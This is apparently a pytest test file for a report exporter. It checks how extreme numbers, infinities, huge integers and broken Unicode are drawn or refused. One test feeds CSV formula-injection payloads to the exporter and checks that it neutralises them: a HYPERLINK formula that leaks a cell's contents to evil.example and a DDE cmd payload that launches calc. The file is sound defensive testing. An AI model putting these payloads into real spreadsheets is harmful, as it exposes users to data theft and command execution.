"""Reports that components of others wrote: whatever their numbers and texts, they are drawn, exported, or refused."""

from __future__ import annotations

import csv
import io
import itertools
import json
import math
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from algorithm_components.sdk.environment import ComponentError
from algorithm_components.sdk.report_form import FORM, Report, faults_of
from nodeconsole.exports import FORMS
from nodeconsole.exports.axes import ticks
from nodeconsole.exports.forms import About, ExportError, convert
from nodeconsole.i18n.catalogue import load
from nodeconsole.viewmodels.display import Display
from nodeconsole.viewmodels.glyphs import UNICODE
from nodeconsole.viewmodels.report import is_report, report_lines

ABOUT = About("train.metrics", {"job": "job-1"})
EXTREMES = [0, -0.0, 1, 5e-324, -5e-324, 1e-310, 1e-300, 1e16, 1e16 + 2, 1e300, -1e300, 1e299, 10**299, -(10**300)]
BEYOND = [1.7e308, -1.7e308, 10**305, 10**4000, math.inf, -math.inf, math.nan]
DRAWN = Display(load("en_US"), UNICODE, 0)


def exported(tmp_path: Path, content: bytes, form: str) -> bytes:
    stored = tmp_path / "stored"
    stored.write_bytes(content)
    out = io.BytesIO()
    convert(stored, out, form, ABOUT)
    return out.getvalue()


def curve(*points: list[Any]) -> dict[str, Any]:
    series = [{"title": "s", "points": list(points)}]
    return {"form": FORM, "items": [{"kind": "curve", "name": "c", "x": {}, "y": {}, "series": series}]}


def scalar(value: Any) -> dict[str, Any]:
    return {"form": FORM, "items": [{"kind": "scalar", "name": "s", "value": value}]}


@pytest.mark.parametrize(("low", "high"), list(itertools.combinations(EXTREMES, 2)))
def test_numbers_of_every_size_are_drawn(tmp_path: Path, low: float, high: float) -> None:
    assert len(ticks(min(low, high), max(low, high))) <= 7
    document = curve([low, high], [high, low], [low, low])
    assert is_report(document)
    assert report_lines(document, DRAWN, 80)
    for form in FORMS[:3]:
        assert exported(tmp_path, json.dumps(document).encode(), form)


def test_numbers_of_every_size_make_a_picture(tmp_path: Path) -> None:
    document = curve(*[[x, y] for x, y in itertools.product(EXTREMES[:6], EXTREMES)])
    made = exported(tmp_path, json.dumps(document).encode(), "png")
    assert Image.open(io.BytesIO(made)).size[0] == 1280


@pytest.mark.parametrize("value", BEYOND, ids=lambda value: f"{type(value).__name__}-{str(value)[:8]}")
def test_numbers_beyond_all_measure_make_no_report(tmp_path: Path, value: float) -> None:
    for document in (curve([0, value]), curve([value, 0])):
        assert list(faults_of(document))
        assert not is_report(document)
        with pytest.raises(ExportError):
            exported(tmp_path, json.dumps(document).encode(), "html")
    if not isinstance(value, int) and not math.isfinite(value):
        assert not is_report(scalar(value))
    made = Report()
    with pytest.raises(ComponentError, match="cannot hold this"):
        made.curve("c", {"s": [(0, value)]})


def test_a_whole_number_of_a_thousand_digits_is_refused_not_drawn() -> None:
    assert not is_report(scalar(10**1000))
    with pytest.raises(ComponentError, match="300 digits"):
        Report().scalar("n", 10**5000)


@pytest.mark.parametrize("half", ["\ud800", "x\udfffy", "\udc00\ud800"])
def test_half_a_character_makes_no_report(tmp_path: Path, half: str) -> None:
    documents = [scalar(half), scalar(1) | {"title": half}, scalar(1) | {"description": half}]
    documents.append({"form": FORM, "items": [{"kind": "text", "name": "t", "text": half}]})
    table = {"kind": "table", "name": "t", "columns": [{"name": half}], "rows": [[1]]}
    documents += [{"form": FORM, "items": [table]}]
    documents += [{"form": FORM, "items": [table | {"columns": [{"name": "a"}], "rows": [[half]]}]}]
    for document in documents:
        assert not is_report(document), document
        with pytest.raises(ExportError):
            exported(tmp_path, json.dumps(document).encode(), "csv")
    # Beside what the form knows, it is carried along as it came.
    odd = curve([0, 1])
    odd["items"][0]["x"] = {"title": "", "more": half}
    assert json.loads(exported(tmp_path, json.dumps(odd).encode(), "json")) == odd


@pytest.mark.parametrize(
    ("cell", "saved"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("＝1", "'＝1"),
        ("-", "'-"),
        ("-5", "-5"),
        ("+8613800000000", "+8613800000000"),
        ("-1.5e-3", "-1.5e-3"),
        ("a=1", "a=1"),
        ("", ""),
        (-5, "-5"),
    ],
)
def test_a_spreadsheet_computes_nothing_of_what_is_exported(tmp_path: Path, cell: Any, saved: str) -> None:
    table = {"kind": "table", "name": "t", "columns": [{"name": "c"}], "rows": [[cell]]}
    text = exported(tmp_path, json.dumps({"form": FORM, "items": [table]}).encode(), "csv").decode()
    assert list(csv.reader(io.StringIO(text, newline="")))[1][-1] == saved
    rows = io.StringIO()
    csv.writer(rows).writerows([["c", "d"], [cell, 1]])
    text = exported(tmp_path, rows.getvalue().encode(), "csv").decode()
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == [saved, "1"]
